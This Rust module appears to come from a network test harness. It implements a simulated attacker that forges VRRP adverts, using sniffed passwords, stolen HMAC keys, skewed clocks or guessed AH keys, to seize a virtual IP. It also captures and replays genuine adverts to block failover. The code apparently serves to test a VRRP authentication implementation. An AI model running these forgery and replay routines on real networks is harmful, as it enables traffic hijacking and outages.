//! An attacker on the subnet (host `x`): forges adverts from its own address (priority 255,
//! with the seed's PASS password sniffed off the wire, optionally signed with a stolen key and
//! a skewed clock; against `auth_type AH`, without the key, both in AH with an ICV of its own
//! key and in plain VRRP) and takes the VIP; or replays genuine adverts captured at a server's switch
//! port (a mirror port) after that server died, to keep the backup from taking over.

use crate::netns;
use crate::shell::{run_in, sh_in};
use crate::topology::{Node, Topology};
use anyhow::{Context, Result, anyhow};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};
use vpc::dataplane::frame::{self, ETH_IPV4};
use vpc::dataplane::switch::parse_mac;
use vrrp::auth_hmac::{AntiReplay, HmacConfig, HmacSession, Key, Mode, UnixTime};
use vrrp::{Advert, ChecksumMode, PacketAddrs};

/// An attacker thread: `netns::spawn_in`'s result around the attack's own.
type Task = JoinHandle<Result<Result<()>>>;

/// The attacker's address on the seed subnet.
pub const ATTACKER_ADDR: &str = "172.16.16.66";
/// The attacker host's name, as scenario steps give it.
pub const ATTACKER: &str = "x";

/// What the forger puts in its adverts.
#[derive(Clone, Debug)]
pub struct Forgery {
    /// The advert (the seed's VRID, interval, password and VIP; the attacker's priority).
    pub advert: Advert,
    /// A stolen `auth_hmac` key (id, bytes) and the attacker's clock offset in seconds.
    pub signed: Option<(u8, Vec<u8>, i64)>,
    /// The source address written in the packets (the attacker's own, or a spoofed one).
    pub source: Ipv4Addr,
}

/// Captured frames (time since the first, frame).
type Capture = Arc<Mutex<Vec<(Duration, Vec<u8>)>>>;

/// The attacker's threads; all stop when it is dropped.
#[derive(Default)]
pub struct Attacker {
    stop: Arc<AtomicBool>,
    threads: Vec<Task>,
    captured: Capture,
}

impl Attacker {
    /// Stops every thread and returns the first error one of them met.
    pub fn finish(&mut self) -> Result<()> {
        self.stop.store(true, Ordering::Relaxed);
        let mut first = Ok(());
        for t in self.threads.drain(..) {
            let r = match t.join() {
                Ok(Ok(attack)) => attack,
                Ok(Err(e)) => Err(e),
                Err(_) => Err(anyhow!("attacker thread panicked")),
            };
            if first.is_ok() {
                first = r;
            }
        }
        first.context("the attacker failed")
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// The MAC of `eth0` in namespace `ns`.
fn mac_of(ns: &str) -> Result<[u8; 6]> {
    let text = sh_in(ns, "cat /sys/class/net/eth0/address")?;
    parse_mac(text.trim()).ok_or_else(|| anyhow!("no MAC for eth0 in {ns}: `{text}`"))
}

/// The index of `ifname` in the namespace the calling thread is in.
fn index_of(ifname: &str) -> Result<u32> {
    nix::net::if_::if_nametoindex(ifname).with_context(|| format!("no interface {ifname}"))
}

impl Attacker {
    /// Sends forged adverts from `x` to every server (unicast) and the VRRP group, once per
    /// advert interval, after taking the VIP `vip` on its own interface.
    pub fn forge(&mut self, topo: &Topology, x: &Node, forgery: Forgery, vip: &str) -> Result<()> {
        let a = format!("{vip}/24");
        run_in(&x.ns, &["ip", "addr", "add", &a, "dev", "eth0"])?;
        let src = forgery.source;
        let our_mac = mac_of(&x.ns)?;
        let mut targets: Vec<(Ipv4Addr, [u8; 6])> = Vec::new();
        for s in &topo.servers {
            let mac = parse_mac(&s.mac).ok_or_else(|| anyhow!("MAC of {}", s.name))?;
            targets.push((s.addr.parse()?, mac));
        }
        targets.push((
            vrrp::packet::MULTICAST_V4,
            [0x01, 0x00, 0x5e, 0x00, 0x00, 0x12],
        ));
        let mut signer = forgery.signed.as_ref().map(|(id, bytes, _)| {
            let cfg = HmacConfig {
                keys: vec![Key {
                    id: *id,
                    bytes: bytes.clone(),
                }],
                active_key: *id,
                mode: Mode::Enforce,
                anti_replay: AntiReplay::Time,
                time_window: 5,
            };
            HmacSession::new(cfg, forgery.advert.version, forgery.advert.vrid, &[])
        });
        let offset = forgery.signed.as_ref().map_or(0, |s| s.2);
        // AH without the key: the attacker's own, and numbers far ahead of any counter.
        let mut ah = (forgery.advert.auth == vrrp::Auth::Ah)
            .then(|| vrrp::ah::AhSession::new(vrrp::ah::Key::from_pass("guess"), false));
        let interval = Duration::from_micros(forgery.advert.interval.micros());
        let stop = self.stop.clone();
        let thread = netns::spawn_in(&x.ns, move || -> Result<()> {
            let sender = rawlink::Sender::new().context("packet socket")?;
            let index = index_of("eth0")?;
            while !stop.load(Ordering::Relaxed) {
                for (dst, mac) in &targets {
                    let addrs = PacketAddrs {
                        src: IpAddr::V4(src),
                        dst: IpAddr::V4(*dst),
                    };
                    let mut msg = forgery.advert.encode(&addrs, ChecksumMode::PseudoHeader)?;
                    if let Some(s) = signer.as_mut() {
                        let now = UnixTime::now();
                        let skewed = UnixTime {
                            secs: now.secs.saturating_add_signed(offset),
                            nanos: now.nanos,
                        };
                        s.sign(skewed, addrs.src, &mut msg);
                    }
                    let ip = vrrp::ip::ipv4_packet(src, *dst, &msg);
                    let _ = sender.send(index, &frame::ethernet(*mac, our_mac, ETH_IPV4, &ip));
                    if let Some(ah) = ah.as_mut() {
                        let mut stamp = ah.stamp();
                        stamp.seq = stamp.seq.wrapping_add(1 << 30);
                        let msg = forgery.advert.encode(&addrs, ChecksumMode::MessageOnly)?;
                        let ip = ah.seal(stamp, src, *dst, &msg);
                        let _ = sender.send(index, &frame::ethernet(*mac, our_mac, ETH_IPV4, &ip));
                    }
                }
                sleep_unless(&stop, interval);
            }
            Ok(())
        })?;
        self.threads.push(thread);
        Ok(())
    }

    /// Starts recording the VRRP frames (in AH too) that `server` sends, at its switch port.
    pub fn capture(&mut self, topo: &Topology, server: &Node) -> Result<()> {
        let port_name = topo.port_of(server);
        let from: Ipv4Addr = server.addr.parse()?;
        let (stop, captured) = (self.stop.clone(), self.captured.clone());
        let thread = netns::spawn_in(&topo.switch, move || -> Result<()> {
            let port = index_of(&port_name)?;
            let rx = rawlink::Receiver::new().context("packet socket")?;
            rx.set_timeout(Duration::from_millis(100))?;
            let mut buf = vec![0u8; 2048];
            let mut first = None;
            while !stop.load(Ordering::Relaxed) {
                let Ok(arrival) = rx.recv(&mut buf) else {
                    continue;
                };
                let f = &buf[..arrival.len];
                let vrrp_from_server = arrival.ifindex == port
                    && f.get(12..14) == Some(&ETH_IPV4.to_be_bytes()[..])
                    && frame::ipv4(f).is_some_and(|ip| {
                        (ip.protocol == vrrp::checksum::IPPROTO_VRRP
                            || ip.protocol == vrrp::ah::IPPROTO_AH)
                            && ip.src == from
                    });
                if vrrp_from_server {
                    let t0 = *first.get_or_insert_with(Instant::now);
                    if let Ok(mut c) = captured.lock() {
                        c.push((t0.elapsed(), f.to_vec()));
                    }
                }
            }
            Ok(())
        })?;
        self.threads.push(thread);
        Ok(())
    }

    /// Sends the captured frames again from `x`, at their original pace, over and over.
    pub fn replay(&mut self, x: &Node) -> Result<()> {
        let frames = self.captured.lock().map(|c| c.clone()).unwrap_or_default();
        if frames.is_empty() {
            return Err(anyhow!(
                "nothing captured to replay (a `capture` step must come first)"
            ));
        }
        let our_mac = mac_of(&x.ns)?;
        let stop = self.stop.clone();
        let period = frames.last().map_or(Duration::ZERO, |f| f.0) + Duration::from_secs(1);
        let thread = netns::spawn_in(&x.ns, move || -> Result<()> {
            let sender = rawlink::Sender::new().context("packet socket")?;
            let index = index_of("eth0")?;
            while !stop.load(Ordering::Relaxed) {
                let start = Instant::now();
                for (at, f) in &frames {
                    sleep_unless(&stop, at.saturating_sub(start.elapsed()));
                    let mut f = f.clone();
                    let dst = [f[0], f[1], f[2], f[3], f[4], f[5]];
                    frame::set_macs(&mut f, dst, our_mac);
                    let _ = sender.send(index, &f);
                }
                sleep_unless(&stop, period.saturating_sub(start.elapsed()));
            }
            Ok(())
        })?;
        self.threads.push(thread);
        Ok(())
    }
}

fn sleep_unless(stop: &AtomicBool, d: Duration) {
    let end = Instant::now() + d;
    while !stop.load(Ordering::Relaxed) && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(10).min(end - Instant::now()));
    }
}
